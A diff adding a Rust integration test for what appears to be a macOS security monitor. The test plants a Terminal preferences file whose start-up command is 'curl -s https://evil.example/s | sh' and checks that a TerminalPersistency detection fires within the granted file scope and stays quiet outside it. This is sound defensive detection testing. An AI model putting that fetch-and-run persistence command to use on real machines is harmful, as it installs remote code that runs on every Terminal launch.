@@ -916,3 +916,61 @@ fn a_sha256_prevent_list_from_a_file_denies_the_listed_binary() {
     );
     assert!(stderr(&out).contains("`file-hash`"), "{}", stderr(&out));
 }
+
+/// `plist-read` end to end: jamf-analytics with `read_file_contents` reads the Terminal
+/// preferences a close event names through the host's `enrich.plist`, and
+/// `TerminalPersistency` fires with the start-up command as evidence. Outside the granted
+/// scope the read is denied and the analytic stays quiet; the stream goes on.
+#[test]
+fn file_contents_reach_jamf_analytics_through_the_plist_grant() {
+    let dir = tempfile::tempdir().unwrap();
+    let prefs_dir = dir.path().join("Users/bob/Library/Preferences");
+    std::fs::create_dir_all(&prefs_dir).unwrap();
+    let prefs = prefs_dir.join("com.apple.Terminal.plist");
+    std::fs::write(
+        &prefs,
+        r#"<?xml version="1.0" encoding="UTF-8"?>
+<plist version="1.0"><dict><key>Window Settings</key><dict><key>Basic</key><dict>
+<key>CommandString</key><string>curl -s https://evil.example/s | sh</string>
+</dict></dict></dict></plist>"#,
+    )
+    .unwrap();
+    let chain =
+        std::fs::read_to_string(root().join("examples/streams/attack-chain.jsonl")).unwrap();
+    let mut v: Value = chain
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap())
+        .find(|v| v["event"]["close"].is_object())
+        .unwrap();
+    v["event"]["close"]["modified"] = Value::from(true);
+    v["event"]["close"]["target"]["path"] = Value::from(prefs.display().to_string());
+    let input = format!("{v}\n");
+    let config = dir.path().join("ward.toml");
+    let run = |scope: &std::path::Path| {
+        std::fs::write(
+            &config,
+            format!(
+                "[builtin.jamf-analytics]\ngrants = [\"plist-read\"]\nfile_scope = [{:?}]\nconfig = {{ read_file_contents = \"true\" }}\n",
+                scope.display().to_string()
+            ),
+        )
+        .unwrap();
+        let out = ward_with_stdin(
+            &["replay", "-", "--config", config.to_str().unwrap()],
+            Some(input.as_bytes()),
+        );
+        assert!(out.status.success(), "{}", stderr(&out));
+        ndjson(&out)
+            .into_iter()
+            .filter(|f| f["rule"] == "TerminalPersistency")
+            .collect::<Vec<_>>()
+    };
+    let fired = run(dir.path());
+    assert_eq!(fired.len(), 1);
+    assert_eq!(
+        fired[0]["evidence"]["Terminal Shell Command"],
+        "curl -s https://evil.example/s | sh"
+    );
+    let elsewhere = tempfile::tempdir().unwrap();
+    assert!(run(elsewhere.path()).is_empty());
+}
